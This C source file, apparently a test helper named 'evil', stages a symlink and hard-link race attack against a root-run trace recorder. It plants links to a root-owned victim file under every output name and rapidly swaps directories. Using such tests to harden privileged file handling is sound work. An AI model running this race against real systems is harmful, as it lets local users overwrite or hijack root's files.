/* SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
 *
 * evil HOME NAME VICTIM [DIR]: attacks the directory HOME/NAME, to which root records it, for some seconds: plants links to VICTIM,
 * a file of root's, under every name that a recorder writes, and exchanges the directory for others full of such links and for a
 * link to VICTIM's directory. At the end the links stand there, or HOME/DIR, a directory of root's. Runs as the owner of HOME.
 */
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SECONDS 2

static const char *const names[] = { "traces.def", "traces.otf2", "spool", "summary.json", "collectives.json", "traces" };

/* If a name cannot be planted, that is reported, and the attack continues with the other names. */
static void plant(const char *dir, const char *victim, int (*make)(const char *, const char *))
{
	char path[4200];

	if (mkdir(dir, 0777) || chmod(dir, 0777))
		perror(dir);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, names[i]);
		if (make(victim, path) && mkfifo(path, 0666))
			perror(path);
	}
}

static void exchange(const char *real, const char *other)
{
	if (!rename(other, real))
		rename(real, other);
}

int main(int argc, char **argv)
{
	char real[4096], kept[4096], soft[4096], hard[4096], last[4096], *copy;
	time_t end = time(NULL) + SECONDS;

	if (argc < 4)
		return 3;
	snprintf(real, sizeof(real), "%s/%s", argv[1], argv[2]);
	snprintf(kept, sizeof(kept), "%s/kept", argv[1]);
	snprintf(soft, sizeof(soft), "%s/soft", argv[1]);
	snprintf(hard, sizeof(hard), "%s/hard", argv[1]);
	snprintf(last, sizeof(last), "%s/%s", argv[1], argc > 4 ? argv[4] : "soft");
	plant(soft, argv[3], symlink);
	plant(hard, argv[3], link);
	copy = strdup(argv[3]);
	while (time(NULL) <= end) {
		rename(real, kept);
		exchange(real, soft);
		exchange(real, hard);
		if (!symlink(dirname(copy), real))
			unlink(real);
		rename(kept, real);
	}
	rename(real, kept);
	return rename(last, real) != 0;
}
